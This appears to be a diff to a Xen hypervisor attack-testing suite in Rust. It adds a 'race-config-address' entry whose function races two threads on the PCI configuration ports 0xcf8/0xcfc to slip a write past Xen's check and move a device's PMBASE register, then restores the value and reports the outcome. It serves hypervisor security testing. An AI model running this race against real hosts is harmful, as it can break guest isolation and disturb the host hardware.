@@ -8,7 +8,10 @@ use std::collections::BTreeMap;
 use std::fs::{self, File};
 use std::os::unix::fs::FileExt;
 use std::path::PathBuf;
-use vmcrypt_tools::hypercall::{Error, ForeignMap, Privcmd};
+use std::sync::atomic::{AtomicBool, Ordering::Relaxed};
+use std::thread;
+use std::time::{Duration, Instant};
+use vmcrypt_tools::hypercall::{Error, ForeignMap, Ports, Privcmd};
 use vmcrypt_tools::xen::{DomId, Frame};
 
 pub const ATTACKS: &[Attack] = &[
@@ -203,6 +206,12 @@ pub const ATTACKS: &[Attack] = &[
             })
         },
     ),
+    Attack::new(
+        "race-config-address",
+        "48",
+        "the same, where another vCPU changes which register is meant between Xen's look at it and the write",
+        |_| race_config_address(),
+    ),
     Attack::unmade(
         "43",
         "write to code of the firmware that Xen calls",
@@ -302,6 +311,44 @@ fn written(map: &mut ForeignMap, page: usize, offset: usize) -> Result<bool> {
     let new = set(!old)?;
     set(old)?;
     Ok(new != old)
+}
+
+/// One thread writes to whatever register of PCI configuration space is meant, the other says in turn that it is one that
+/// cannot change, and the one that moves the sleep register.
+fn race_config_address() -> Result<Came> {
+    const ADDRESS: u16 = 0xcf8;
+    const DATA: u16 = 0xcfc;
+    const ENABLE: u32 = 1 << 31;
+    const PMBASE: u32 = 0x40;
+    let device = PciDevice::with_ids(0x8086, 0x7113)?;
+    let base = device.read(PMBASE as u16)?;
+    let function = ENABLE | u32::from(device.bus) << 16 | u32::from(device.function) << 8;
+    let deadline = Instant::now() + Duration::from_secs(20);
+    let mut moved = base;
+    while moved == base && Instant::now() < deadline {
+        let over = AtomicBool::new(false);
+        thread::scope(|scope| -> Result<()> {
+            let other = scope.spawn(|| {
+                let ports = Ports::open()?;
+                while !over.load(Relaxed) {
+                    ports.write32(ADDRESS, function);
+                    ports.write32(ADDRESS, function | PMBASE);
+                }
+                Ok::<_, Error>(())
+            });
+            let ports = Ports::open()?;
+            (0..20_000).for_each(|_| ports.write32(DATA, base ^ 0x1000));
+            over.store(true, Relaxed);
+            Ok(other.join().expect("it does not panic")?)
+        })?;
+        // By the kernel, whose own accesses nobody disturbs now.
+        moved = device.read(PMBASE as u16)?;
+    }
+    device.write(PMBASE as u16, base)?;
+    Ok(match moved ^ base {
+        0 => Came::Nothing("it is where it was".to_owned()),
+        _ => Came::Through(format!("it moved from {base:#x} to {moved:#x}")),
+    })
 }
 
 /// An empty domain that nobody but Xen knows.
